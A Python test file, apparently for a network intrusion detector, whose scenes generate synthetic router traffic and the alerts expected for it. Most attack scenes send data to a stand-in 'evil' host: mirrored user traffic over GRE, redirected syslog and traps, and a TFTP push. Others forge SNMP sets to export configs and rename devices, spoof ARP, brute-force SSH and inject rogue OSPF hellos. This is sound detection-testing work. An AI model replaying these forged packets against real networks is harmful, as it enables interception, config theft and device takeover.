"""Windows, users and exceptions; servers that change; what is silent, forged or new."""
import hashlib
import struct

from net import mac
from scapy.all import ARP, GRE, IP, UDP, Ether, Raw
from stage import scene
from wire import *

IN = 3600 + 600  # inside of CHG-77


def session(n, h, who, element, user, lines, prompt='pe1#'):
    n.tcp(who, element, 23, telnet_words(user, 'zz81-Klm', prompt, lines, 'Username: ', 'Password: '))


CHANGE = [
    ('conf t', '', 'pe1(config)#'),
    ('int gi0/1', '', 'pe1(config-if)#'),
    ('descr uplink', '', 'pe1(config-if)#'),
    ('end', '', 'pe1#'),
    'wr',
]
QUIET = ('login-without-aaa', 'no-accounting')


@scene(
    want=[],
    at=IN,
    also=QUIET,
    deeds=[
        ('change', '*', {'sanction': 'in-window', 'window': 'CHG-77', 'permit': 'cli'}),
        ('save', 'config', {'sanction': 'in-window'}),
    ],
)
def window_ok(n, h):
    session(n, h, h.jump, h.r1, 'alice', CHANGE)


@scene(want=[('exceeds-window', {'mgmt.sanction': 'exceeds', 'mgmt.exceeds': 'actor'})], at=IN, also=QUIET)
def window_user(n, h):
    session(n, h, h.jump, h.r1, 'mallory', CHANGE)


@scene(want=[('exceeds-window', {'mgmt.exceeds': 'verb', 'mgmt.verb': 'reboot'})], at=IN, also=QUIET)
def window_verb(n, h):
    session(n, h, h.jump, h.r1, 'alice', ['reload'])


@scene(want=[('exceeds-window', {'mgmt.exceeds': 'element', 'mgmt.element.id': 'r2'})], at=IN, also=QUIET)
def window_element(n, h):
    session(n, h, h.jump, h.r2, 'alice', CHANGE)


@scene(
    want=[
        (
            'change-outside-window',
            {'mgmt.sanction': 'out-of-window', 'spanwatch.why.permit': 'cli', 'spanwatch.why.missing': '*from: 2026-11-22T05*'},
        )
    ],
    at=5 * 3600,
    also=QUIET,
)
def window_over(n, h):
    session(n, h, h.jump, h.r1, 'alice', CHANGE)


@scene(want=[('exceeds-window', {'mgmt.exceeds': 'actor'})], at=IN, also=QUIET + ('unexpected-manager',))
def manager_by_telnet(n, h):
    session(n, h, h.nms, h.r1, 'alice', CHANGE)


@scene(want=[], at=IN, also=QUIET)
def reads_any_time(n, h):
    session(n, h, h.jump, h.r1, 'bob', ['show version', 'sh ip int br', 'sh run'])


# --- what is new or forged -------------------------------------------------------------------------


@scene(want=['unexpected-outbound', 'new-control-target'], also=('first-seen',))
def syslog_elsewhere(n, h):
    for i in range(4):
        n.udp(h.r1, 514, h.log, 514, b'<189>1: %SYS-5-X: ok')
        n.wait(2)
    for i in range(4):
        n.udp(h.r1, 514, h.evil, 514, b'<189>1: %SYS-5-X: ok')
        n.wait(2)


@scene(want=['unexpected-outbound', 'new-control-target'])
def traps_elsewhere(n, h):
    n.udp(h.r1, 50000, h.evil, 162, trap())


@scene(want=['traffic-mirror'], families=(4,), also=('unexpected-tunnel', 'unexpected-outbound'))
def erspan_out(n, h):
    inner = (
        Ether(src=mac(h.user), dst=mac(h.web)) / IP(src=h.user, dst=h.web) / UDP(sport=4000, dport=5000) / Raw(b'secret words')
    )
    for i in range(6):
        head = struct.pack('>HHI', 0x1000 | 30, 0x0007, 0x100 + i)
        n.ip(h.r1, h.evil, GRE(proto=0x88BE, seqnum_present=1, seqence_number=i) / Raw(head + bytes(inner)))
        n.wait(1)


@scene(want=['unapproved-image'], bare=None, also=('unexpected-outbound',))
def tftp_boot(n, h):
    tftp_put(n, h.r3, h.evil, 'c2960-lanbasek9-mz.152-7.bin', b'\x7fELF' + hashlib.sha256(b'x').digest() * 60, opcode=1)


@scene(want=[('brute-force', {}), 'unexpected-manager'], also=('plane-violation', 'scan'))
def ssh_guess(n, h):
    for i in range(14):
        words = ssh_words(sealed=0) + [bytes(range(84)), ('s', bytes(range(84)))]
        for k in range(6):
            words += [bytes(range(148)), ('s', bytes(range(52)))]
        n.tcp(h.evil, h.r1, 22, words)
        n.wait(1)


@scene(want=[('manager-spoofed', {})], families=(4,), also=('config-export', 'address-conflict'))
def spoofed_manager(n, h):
    for i in range(40):
        snmp_asked(n, h.nms, h.r1, 'get', {'1.3.6.1.2.1.1.3.0': None})
        n.wait(30)
    forged = Ether(src='02:66:66:66:66:66', dst=mac(h.r1)) / IP(src=h.nms, dst=h.r1, ttl=243) / UDP(sport=50001, dport=161)
    n.frame(forged / Raw(snmp('set', {'1.3.6.1.4.1.9.2.1.55.203.0.113.77': 'x.txt'})))
    n.wait(20)
    snmp_asked(n, h.nms, h.r1, 'get', {'1.3.6.1.2.1.1.3.0': None})


@scene(want=[], families=(4,))
def manager_steady(n, h):
    for i in range(40):
        snmp_asked(n, h.nms, h.r1, 'get', {'1.3.6.1.2.1.1.3.0': None})
        n.wait(30)


@scene(want=[('log-silence', {})], families=(4, 6))
def silence(n, h):
    for i in range(30):
        n.udp(h.r1, 514, h.log, 514, b'<189>%d: %%SYS-5-X: ok' % i)
        n.wait(60)
    for i in range(60):
        snmp_asked(n, h.nms, h.r1, 'get', {'1.3.6.1.2.1.1.3.0': None})
        n.wait(60)


@scene(want=[], families=(4,))
def silence_of_all(n, h):  # the element itself is gone: that is no suppression
    for i in range(30):
        n.udp(h.r1, 514, h.log, 514, b'<189>%d: %%SYS-5-X: ok' % i)
        snmp_asked(n, h.nms, h.r1, 'get', {'1.3.6.1.2.1.1.3.0': None})
        n.wait(60)
    for i in range(60):
        snmp_asked(n, h.nms, h.r1, 'get', {'1.3.6.1.2.1.1.3.0': None}, answered=False)
        n.wait(60)


@scene(want=[('address-conflict', {})], families=(4,))
def arp_conflict(n, h):
    for i in range(4):
        for who in ('02:44:0a:3d:00:0a', '02:66:66:66:66:66'):
            n.frame(Ether(src=who, dst=mac(h.r1)) / ARP(op=2, hwsrc=who, psrc=h.nms, hwdst=mac(h.r1), pdst=h.r1))
            n.wait(1)


@scene(want=[('beacon', {}), 'unexpected-outbound'])
def beacon(n, h):
    for i in range(20):
        n.tcp(h.r1, h.evil, 443, tls_words('cdn.example.org'))
        n.wait(299.5)


@scene(want=['mass-change', 'unpermitted-change'], also=('unexpected-manager', 'plane-violation'))
def mass(n, h):
    for i in range(1, 8):
        host = h.r1[:-1] + str(i)
        snmp_asked(n, h.stranger, host, 'set', {'1.3.6.1.2.1.1.5.0': 'owned'})
        n.wait(5)


@scene(want=['unlisted-element'], families=(4,), also=('unexpected-manager', 'routing-change', 'first-seen', 'plane-violation'))
def ospf_stranger(n, h):
    hello = (
        bytes((2, 1, 0, 44))
        + bytes((203, 0, 113, 77))
        + bytes(4)
        + b'\0\0\0\0'
        + bytes(8)
        + b'\xff\xff\xff\0'
        + b'\0\x0a\x02\1\0\0\0\x28'
        + bytes(8)
    )
    for i in range(3):
        n.ip(h.stranger, '224.0.0.5', hello, proto=89, ttl=1)
        n.wait(10)
